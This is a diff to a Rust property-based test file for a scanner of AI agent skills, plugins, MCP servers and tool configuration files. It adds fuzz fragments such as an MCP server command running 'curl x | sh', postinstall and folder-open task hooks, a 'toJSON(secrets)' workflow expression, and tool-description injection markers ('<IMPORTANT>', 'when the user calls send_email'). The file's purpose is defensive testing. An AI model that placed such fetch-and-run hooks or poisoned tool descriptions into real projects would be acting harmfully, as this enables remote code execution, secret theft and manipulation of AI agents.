@@ -1,7 +1,9 @@
 //! No input panics the scanner, and every finding points into a file it
 //! was given, at a line that file has: generated skills (Markdown, shell,
 //! Python, JavaScript and configuration built from the characters and
-//! constructs the analyzers react to) and the labelled malicious skills of
+//! constructs the analyzers react to), generated plugin and tool files
+//! (hooks, MCP servers and their code, install scripts, tasks, recipes,
+//! workflows) and the labelled malicious skills of
 //! the shared set with bytes flipped, cut and repeated.
 //!
 //! The fuzz target `scan` (fuzz/fuzz_targets/scan.rs) does the same without
@@ -79,6 +81,80 @@ const PIECES: &[&str] = &[
     "[",
     "](",
     "![",
+    "{\"mcpServers\": {\"a\": {\"command\": \"sh\", \"args\": [\"-c\", \"curl x | sh\"]}}}",
+    "{\"scripts\": {\"postinstall\": \"",
+    "\"tasks\": [{\"command\": \"",
+    "\"runOptions\": {\"runOn\": \"folderOpen\"}",
+    "\"statusLine\": {\"command\": \"",
+    "\"url\": \"http://203.0.113.7/\"",
+    "{",
+    "}",
+    "]",
+    ",",
+    ":",
+    "//",
+    "/*",
+    "*/",
+    "run: |\n",
+    "entry: ",
+    "  ",
+    "\tcurl x | sh\n",
+    "target:\n",
+    "$(shell ",
+    "RUN ",
+    " \\\n",
+    "import os\n",
+    "upload-file = ",
+    "@mcp.tool()\ndef f(a):\n    \"\"\"",
+    "\"\"\"",
+    "server.tool(\"a\", \"",
+    "description: \"",
+    "description=\"",
+    "<IMPORTANT>",
+    "when the user calls send_email",
+    "toJSON(secrets)",
+    "pull_request_target",
+    "[mcp_servers.a]\n",
+    "command = \"",
+    "args = [\"",
+    "!{",
+];
+
+/// The files plugins, MCP servers and other tools read, each read its own
+/// way (`plugin.rs`, `mcp.rs`, `toolfiles.rs`).
+const TOOL_FILES: &[&str] = &[
+    ".claude-plugin/plugin.json",
+    ".claude-plugin/marketplace.json",
+    "hooks/hooks.json",
+    ".mcp.json",
+    ".claude/settings.json",
+    "gemini-extension.json",
+    "commands/deploy.md",
+    "agents/reviewer.md",
+    "server.py",
+    "src/index.ts",
+    "tools.json",
+    "package.json",
+    "composer.json",
+    ".vscode/tasks.json",
+    ".devcontainer/devcontainer.json",
+    "Makefile",
+    "justfile",
+    "Dockerfile",
+    ".envrc",
+    ".curlrc",
+    ".githooks/pre-commit",
+    ".pre-commit-config.yaml",
+    ".github/workflows/ci.yml",
+    "action.yml",
+    "lib/site.pth",
+    "docker-compose.yml",
+    "assets/jobs.cron",
+    ".npmrc",
+    "assets/config.json",
+    "build/rules.mk",
+    "commands/deploy.toml",
+    ".codex/config.toml",
 ];
 
 fn skill_from(parts: &[usize]) -> String {
@@ -125,6 +201,24 @@ proptest! {
             ("scripts/x.py", py.as_bytes()),
             ("references/raw.md", &raw),
             ("assets/config.json", md.as_bytes()),
+        ]);
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    /// Each tool file, generated from the pieces its reader reacts to (an
+    /// MCP marker first, so that code is read for tool descriptions).
+    #[test]
+    fn generated_tool_files(
+        name in 0usize..TOOL_FILES.len(),
+        body in proptest::collection::vec(0usize..1000, 0..160),
+    ) {
+        let text = format!("# mcp\n{}", skill_from(&body));
+        check(&[
+            ("SKILL.md", b"---\nname: x\ndescription: y\n---\n"),
+            (TOOL_FILES[name], text.as_bytes()),
         ]);
     }
 }
